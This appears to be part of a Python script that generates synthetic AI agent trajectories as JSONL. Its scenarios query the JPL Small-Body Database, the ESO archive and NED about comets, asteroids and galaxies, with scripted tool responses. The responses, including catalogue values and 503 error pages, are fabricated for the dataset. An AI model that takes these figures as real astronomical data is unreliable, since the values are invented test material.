                "signature": {
                    "version": "1.0",
                    "source": "NASA/JPL Small-Body Database (SBDB) Query API",
                },
                "count": 2,
                "fields": ["full_name", "q", "first_obs"],
                "data": [
                    ["C/2023 V5 (Leonard)", ".0702934", "2023-11-13"],
                    ["P/2023 R4 (SOHO)", ".0459012", "2023-09-02"],
                ],
            }
        ),
    )

    s = S(
        "sbdb",
        False,
        1,
        "Look up the diameter and albedo of 16 Psyche, 21 Lutetia, 433 Eros, 25143 Itokawa and 101955 Bennu.",
    )
    busy = "<html>\n<head><title>503 Service Temporarily Unavailable</title></head>\n<body>\n<center><h1>503 Service Temporarily Unavailable</h1></center>\n</body>\n</html>"
    for t in ["16", "21", "433", "25143", "101955", "Psyche", "Eros"]:
        s("http_request", http("GET", f"{SB}/sbdb.api?sstr={t}&phys-par=1"), busy)

    s = S(
        "eso",
        True,
        1,
        "Are there any public MUSE observations in the ESO archive of NGC 300 taken in 2023?",
    )
    s(
        "python",
        {
            "code": "from astroquery.eso import Eso\neso = Eso()\nt = eso.query_instrument('muse', column_filters={'target': 'NGC 300', 'stime': '2023-01-01', 'etime': '2023-12-31'})\nprint(t)"
        },
        "<Table length=3>\n   Object      RA         DEC      Program_ID     Release_Date         DP.ID                 Exptime \n"
        "   str7     float64    float64      str17          str10             str29                 float64 \n"
        "------- ---------- ----------- --------------- ------------ ----------------------------- -------\n"
        "NGC 300  13.72375 -37.684167 0110.B-4031(A)  2023-10-17 MUSE.2023-09-14T02:41:27.355   900.0\n"
        "NGC 300  13.72375 -37.684167 0110.B-4031(A)  2023-10-17 MUSE.2023-09-14T02:57:12.901   900.0\n"
        "NGC 300  13.69812 -37.702222 0111.D-2257(B)  2024-11-05 MUSE.2023-11-02T01:14:08.442   600.0",
    )
    s(
        "python",
        {
            "code": "import datetime\nprint([r['DP.ID'] for r in t if r['Release_Date'] <= '2024-03-19'])"
        },
        "['MUSE.2023-09-14T02:41:27.355', 'MUSE.2023-09-14T02:57:12.901']",
    )

    s = S(
        "ned",
        True,
        1,
        "What redshift and morphological type does NED give for NGC 1365, and how many photometry points does it have?",
    )
    s(
        "python",
        {"code": "from astroquery.ipac.ned import Ned\nprint(Ned.query_object('NGC 1365'))"},
        "<Table length=1>\nNo. Object Name     RA         DEC     Type  Velocity  Redshift Redshift Flag Magnitude and Filter Separation References Notes Photometry Points Positions Redshift Points Diameter Points Associations\n"
        "                 degrees    degrees          km / s                                               arcmin                                                                                          \n"
        "--- ----------- --------- ---------- ----- -------- -------- ------------- -------------------- ---------- ---------- ----- ----------------- --------- --------------- --------------- ------------\n"
        "  1    NGC 1365  53.40155  -36.14040     G     1636 0.005457                            10.3                       2318    85               389        42              34              28            0",
    )
    s(
        "python",
        {
            "code": "print(Ned.get_table('NGC 1365', table='diameters')['NED Major Axis', 'NED Minor Axis', 'Hubble Type'][:3])"
        },
        "NED Major Axis NED Minor Axis Hubble Type\n    arcsec         arcsec               \n-------------- -------------- -----------\n         673.2          364.8     SB(s)b \n         720.0          390.0      SBb  \n         674.1          ---          SBbc ",
    )


def main(out: Path = DEFAULT_OUT) -> None:
    ROWS.clear()
    docai()
    security()
    serving()
    marketing()
    astro()
    out.write_text(
        "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in ROWS), encoding="utf-8"
    )


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else DEFAULT_OUT)
